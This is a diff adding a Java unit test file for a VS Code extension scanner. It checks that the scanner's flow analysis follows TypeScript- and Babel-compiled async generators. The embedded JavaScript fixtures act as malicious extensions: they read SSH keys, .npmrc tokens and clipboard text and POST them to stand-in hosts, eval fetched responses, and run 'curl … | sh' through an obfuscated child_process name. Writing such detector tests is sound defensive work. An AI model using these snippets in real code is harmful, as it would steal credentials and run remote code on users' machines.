@@ -1,0 +1,232 @@
+package dev.vsxray.scanner.javascript.flow;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import org.junit.jupiter.api.Test;
+
+/** Async functions and generators as compilers write them for engines that have neither: a switch over labels. */
+class CompiledGeneratorsTest {
+
+    /** What the compilers' own helpers do, in short; the form of the body is what is recognised, not their names. */
+    private static final String HELPERS = """
+            function awaiter(self, args, P, body) {
+              return new Promise(function (done) {
+                const g = body.apply(self, args || []);
+                (function step(r) {
+                  r.done ? done(r.value) : Promise.resolve(r.value).then(v => step(g.next(v)));
+                })(g.next());
+              });
+            }
+            function generator(self, body) { return unknownHelper(self, body); }
+            const regenerator = unknownRuntime();
+            """;
+
+    private static Analysis typescript(String body) {
+        return Analysis.ofActivate(HELPERS + "awaiter(this, void 0, void 0, function () { " + body + " });");
+    }
+
+    @Test
+    void followsWhatIsAwaitedThroughLabels() {
+        Analysis analysis = typescript("""
+                var answer, body;
+                return generator(this, function (s) {
+                  switch (s.label) {
+                    case 0: return [4, fetch('https://tasks.example/next')];
+                    case 1:
+                      answer = s.sent();
+                      return [4, answer.json()];
+                    case 2:
+                      body = s.sent();
+                      if (!body.go) return [2];
+                      return [4, answer.text()];
+                    case 3:
+                      eval(s.sent());
+                      return [2];
+                  }
+                });
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("network-response -> code-eval");
+    }
+
+    @Test
+    void followsBothWaysOfAConditionThatIsNotKnown() {
+        Analysis analysis = typescript("""
+                var data;
+                return generator(this, function (s) {
+                  switch (s.label) {
+                    case 0:
+                      if (!fs.existsSync('/etc/left')) return [3, 2];
+                      return [4, fs.promises.readFile(os.homedir() + '/.ssh/id_rsa')];
+                    case 1:
+                      data = s.sent();
+                      return [3, 4];
+                    case 2: return [4, fs.promises.readFile(os.homedir() + '/.npmrc')];
+                    case 3:
+                      data = s.sent();
+                      s.label = 4;
+                    case 4: return [4, fetch('https://up.example/k', { method: 'POST', body: data })];
+                    case 5:
+                      s.sent();
+                      return [2];
+                  }
+                });
+                """);
+
+        assertThat(analysis.flowNames())
+                .contains("ssh-credentials -> network-send", "package-credentials -> network-send");
+    }
+
+    @Test
+    void countsALoopThatAwaitsToItsEnd() {
+        Analysis analysis = typescript("""
+                var parts, name, i;
+                return generator(this, function (s) {
+                  switch (s.label) {
+                    case 0:
+                      parts = ['child', '_', 'pro', 'cess'];
+                      name = '';
+                      i = 0;
+                      s.label = 1;
+                    case 1:
+                      if (!(i < parts.length)) return [3, 4];
+                      return [4, Promise.resolve(parts[i])];
+                    case 2:
+                      name += s.sent();
+                      s.label = 3;
+                    case 3:
+                      i++;
+                      return [3, 1];
+                    case 4:
+                      require(name).exec('curl https://run.example/a | sh');
+                      return [2, name];
+                  }
+                });
+                """);
+
+        assertThat(analysis.callsOf("process-command")).containsExactly("node:child_process.exec");
+    }
+
+    @Test
+    void runsTheCasesThatCatch() {
+        Analysis analysis = typescript("""
+                var failed;
+                return generator(this, function (s) {
+                  switch (s.label) {
+                    case 0:
+                      s.trys.push([0, 2, , 3]);
+                      return [4, fetch('https://first.example/')];
+                    case 1:
+                      s.sent();
+                      return [3, 3];
+                    case 2:
+                      failed = s.sent();
+                      cp.exec('curl https://fallback.example/ | sh');
+                      return [3, 3];
+                    case 3: return [2];
+                  }
+                });
+                """);
+
+        assertThat(analysis.callsOf("process-command")).containsExactly("node:child_process.exec");
+    }
+
+    @Test
+    void followsTheLabelsThatBabelStores() {
+        Analysis analysis = Analysis.ofActivate(HELPERS + """
+                awaiter(this, [], Promise, regenerator.mark(function send(_x) {
+                  var key;
+                  return regenerator.wrap(function send$(_context) {
+                    while (1) switch (_context.prev = _context.next) {
+                      case 0:
+                        _context.prev = 0;
+                        _context.next = 3;
+                        return fs.promises.readFile(os.homedir() + '/.ssh/id_rsa', 'utf8');
+                      case 3:
+                        key = _context.sent;
+                        if (!(key.length > 10)) { _context.next = 7; break; }
+                        _context.next = 7;
+                        return fetch('https://keys.example/up', { method: 'POST', body: key });
+                      case 7:
+                        return _context.abrupt("return", key);
+                      case 8:
+                        _context.prev = 8;
+                        _context.t0 = _context["catch"](0);
+                        cp.exec('touch /tmp/caught');
+                      case "end":
+                        return _context.stop();
+                    }
+                  }, send, this, [[0, 8]]);
+                }));
+                """);
+
+        assertThat(analysis.flowNames()).contains("ssh-credentials -> network-send");
+        assertThat(analysis.callsOf("process-command")).containsExactly("node:child_process.exec");
+    }
+
+    @Test
+    void followsTheShortNamesOfNewerBabel() {
+        Analysis analysis = Analysis.ofActivate(HELPERS + """
+                awaiter(this, [], Promise, function () {
+                  var doc, _t;
+                  return regenerator().w(function (_c) {
+                    for (;;) switch (_c.p = _c.n) {
+                      case 0:
+                        _c.p = 0;
+                        _c.n = 1;
+                        return vscode.env.clipboard.readText();
+                      case 1:
+                        doc = _c.v;
+                        _c.n = 2;
+                        return fetch('https://clip.example/', { method: 'POST', body: doc });
+                      case 2:
+                        return _c.a(2, doc);
+                      case 3:
+                        _c.p = 3;
+                        _t = _c.v;
+                        return _c.a(2);
+                    }
+                  }, null, null, [[0, 3]]);
+                });
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("clipboard -> network-send");
+    }
+
+    @Test
+    void yieldsOfACompiledGeneratorAreItsElements() {
+        Analysis analysis = Analysis.ofActivate(HELPERS + """
+                function parts() {
+                  return generator(this, function (s) {
+                    switch (s.label) {
+                      case 0: return [4, 'child_'];
+                      case 1: s.sent(); return [4, 'process'];
+                      case 2: s.sent(); return [2];
+                    }
+                  });
+                }
+                require(Array.from(parts()).join('')).exec('id');
+                """);
+
+        assertThat(analysis.callsOf("process-command")).containsExactly("node:child_process.exec");
+    }
+
+    @Test
+    void isSilentWhereTheLabelThatSendsIsNeverReached() {
+        Analysis analysis = typescript("""
+                var key;
+                return generator(this, function (s) {
+                  switch (s.label) {
+                    case 0: return [4, fs.promises.readFile(os.homedir() + '/.ssh/id_rsa')];
+                    case 1:
+                      key = s.sent();
+                      return [3, 3];
+                    case 2: return [4, fetch('https://up.example/k', { method: 'POST', body: key })];
+                    case 3: return [2, 'kept'];
+                  }
+                });
+                """);
+
+        assertThat(analysis.flowNames()).isEmpty();
+    }
+}
